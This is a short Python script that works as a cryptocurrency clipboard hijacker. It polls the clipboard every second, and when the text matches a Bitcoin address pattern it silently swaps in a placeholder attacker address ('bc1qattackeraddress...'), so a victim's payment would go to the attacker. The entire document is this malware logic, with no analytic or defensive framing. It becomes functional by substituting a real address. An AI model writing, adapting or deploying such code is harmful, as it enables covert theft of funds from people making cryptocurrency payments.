import pyperclip, re, time
while True:
    text = pyperclip.paste()
    if re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", text):
        pyperclip.copy("bc1qattackeraddress000000000000000")
    time.sleep(1)
